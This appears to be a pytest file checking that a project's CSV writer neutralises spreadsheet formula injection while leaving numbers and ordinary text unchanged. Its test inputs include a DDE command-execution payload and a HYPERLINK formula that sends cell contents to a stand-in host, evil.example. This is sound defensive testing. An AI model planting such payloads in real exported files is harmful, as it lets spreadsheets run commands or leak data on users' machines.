"""CSV files: nothing in them is run by a spreadsheet, and all the rest is as it was."""

from __future__ import annotations

import ast
import csv
import io

import numpy as np
import pandas as pd
import pytest

from emotion_core.system.storage.folders import PROJECT
from emotion_core.system.tables import as_it_was, csv_of, csv_of_rows, harmless, write_csv

FORMULAS = (
    "=1+1.png",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1)',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=1+1",
    "a;=1+1",
    "a\n=1+1",
)
HARMLESS = (
    *("", "-", "a.png", "a=b.png", "x-y", "o'neill"),
    *("-0.5", "+1e-05", "2026-01-01T12:00:00.250Z"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text(text):
    written = harmless(text)
    assert written.replace("'", "") == text.replace("'", "")
    for part in written.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        assert part.lstrip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("value", [*HARMLESS, -1, -0.5, None, True, np.float32(-2)])
def test_everything_else_stays(value):
    assert harmless(value) is value


def test_no_two_texts_become_one():
    texts = [*FORMULAS, *HARMLESS, "''=1+1", "'-0.5"]
    assert len({harmless(text) for text in texts}) == len(texts)
    assert [as_it_was(harmless(text)) for text in texts] == texts


def test_rows_and_tables():
    rows = [{"file": "=1+1.png", "score": -0.25}, {"file": "b,c.png", "score": 1}]
    expected = [["file", "score"], ["'=1+1.png", "-0.25"], ["b,c.png", "1"]]
    assert list(csv.reader(io.StringIO(csv_of_rows(("file", "score"), rows)))) == expected
    assert csv_of_rows(("file",), [{"file": "a"}], line_end="\r\n") == "file\r\na\r\n"

    table = pd.DataFrame(rows).assign(kind=pd.Categorical(["@x", None]), **{"=A1": [-1, 2]})
    text = csv_of(table)
    assert text == "file,score,kind,'=A1\n'=1+1.png,-0.25,'@x,-1\n\"b,c.png\",1.0,,2\n"
    content = io.BytesIO()
    write_csv(table, content)
    assert content.getvalue().decode() == text


def test_no_other_module_writes_csv():
    writers = {"to_csv", "writer", "DictWriter"}
    found = []
    for folder in ("emotion_core", "pages"):
        for path in (PROJECT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if isinstance(node, ast.Attribute) and (
                    node.attr == "to_csv" or (ast.unparse(node) in {f"csv.{n}" for n in writers})
                ):
                    found.append(path.name)
    assert set(found) == {"tables.py"}
